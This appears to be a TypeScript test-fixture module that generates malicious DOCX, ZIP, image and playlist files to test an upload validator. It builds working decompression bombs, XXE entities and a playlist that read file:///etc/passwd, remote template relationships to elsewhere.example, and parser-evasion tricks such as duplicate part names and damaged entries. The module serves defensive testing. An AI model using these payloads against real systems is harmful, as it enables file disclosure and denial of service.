import { crc32, deflateRawSync } from 'node:zlib';

/** Files that are made to do harm, made here so that none lies in the repository. */

interface Part {
  readonly name: string;
  readonly content: Buffer;
  /** What the directory says that it unpacks to; default: the truth. */
  readonly claims?: number;
}

const deflated = new WeakMap<Buffer, Buffer>();

/** Each content is deflated once, however many entries have it: 65,000 times would be most of what these tests cost. */
function deflate(content: Buffer): Buffer {
  const body = deflated.get(content) ?? deflateRawSync(content);
  deflated.set(content, body);
  return body;
}

const nothing = Buffer.alloc(0);

/** A ZIP archive with deflated entries. With `upon` every entry of the directory names the first one's bytes. */
export function packed(parts: readonly Part[], { upon = false } = {}): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const { name, content, claims = content.length } of parts) {
    const body = deflate(content);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(crc32(content), 10);
    fields.writeUInt32LE(body.length, 14);
    fields.writeUInt32LE(claims, 18);
    fields.writeUInt16LE(Buffer.byteLength(name), 22);
    const where = Buffer.alloc(14);
    where.writeUInt32LE(upon ? 0 : offset, 10);
    const isWritten = !upon || offset === 0;
    const entry = isWritten
      ? Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, Buffer.from(name), body])
      : Buffer.alloc(0);
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), fields, where, Buffer.from(name)]));
    local.push(entry);
    offset += entry.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(central.length, 4);
  end.writeUInt16LE(central.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...local, directory, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

const text = (name: string, content: string | Buffer): Part => ({ name, content: Buffer.from(content) });
const types = text(
  '[Content_Types].xml',
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);

/** A Word document with further parts. */
export const documentWith = (...parts: Part[]): Buffer => packed([types, text('word/document.xml', '<x/>'), ...parts]);

const megabyte = 1_048_576;
const zeros = Buffer.alloc(120 * megabyte);
export const swelling = (): Buffer => documentWith({ name: 'word/media/a.bin', content: zeros });
export const claimingMuch = (): Buffer =>
  documentWith({ name: 'word/media/a.bin', content: Buffer.alloc(9), claims: 0xfffffff0 });
/** A hundred entries that are the same bytes. */
export const uponEachOther = (): Buffer =>
  packed(
    [types, ...Array.from({ length: 100 }, (_, at) => ({ name: `word/media/${at}.bin`, content: types.content }))],
    { upon: true },
  );
/** More entries than a document of a school has, each of which costs its reader something. */
export const ofManyParts = (): Buffer =>
  packed([types, ...Array.from({ length: 65_000 }, (_, at) => ({ name: `word/${at}`, content: nothing }))]);
/** A document in which lies a document that swells: its own directory says nothing of that. */
export const nestedBomb = (): Buffer =>
  packed([
    types,
    text('word/document.xml', '<x/>'),
    {
      name: 'word/embeddings/inner.docx',
      content: packed([
        types,
        text(
          'word/document.xml',
          Buffer.concat([Buffer.from('<x>'), zeros.subarray(0, 30 * megabyte), Buffer.from('</x>')]),
        ),
      ]),
    },
  ]);
export const withEntities = (encoding: 'utf8' | 'utf16le' = 'utf8'): Buffer => {
  const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
  const mark = encoding === 'utf16le' ? [Buffer.from([0xff, 0xfe])] : [];
  return documentWith(text('word/header1.xml', Buffer.concat([...mark, Buffer.from(xml, encoding)])));
};
/** The document type stands behind more than a quick look reads. */
export const withHiddenEntities = (): Buffer =>
  documentWith(text('word/header1.xml', `<?xml version="1.0"?><!--${'x'.repeat(100_000)}--><!DOCTYPE x []><x/>`));
const relation = (kind: string): Part =>
  text(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://elsewhere.example/x.dotm" TargetMode="External"/></Relationships>`,
  );
export const relatedTo = (kind: string): Buffer => documentWith(relation(kind));
/** Two parts have one name: readers differ in which of them counts. */
export const relatedBehindItsDouble = (): Buffer =>
  documentWith(text('word/_rels/settings.xml.rels', '<Relationships/>'), relation('attachedTemplate'));
/** What it loads stands behind a part at which a look into it might stop. */
export const relatedBehindDamage = (): Buffer => {
  const document = documentWith(text('word/odd.xml', 'x'.repeat(90)), relation('attachedTemplate'));
  const at = document.indexOf('word/odd.xml') + 'word/odd.xml'.length;
  return document.fill(0xff, at, at + 2);
};

/** A PNG of some bytes that says how large it is. */
export function pngSaying(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const chunk = (name: string, content: Buffer) => {
    const body = Buffer.concat([Buffer.from(name, 'latin1'), content]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(content.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.from('789c6360000002000001', 'hex')),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
/** A JPEG that says so in its frame header, behind a comment. */
export const jpegSaying = (width: number, height: number): Buffer => {
  const frame = Buffer.from('ffc0000b080000000001011100', 'hex');
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000fffe000441', 'hex'),
    Buffer.from('42', 'hex'),
    frame,
  ]);
};

/** A playlist that names a file of the server, under the name of a film. */
export const playlist = Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n');
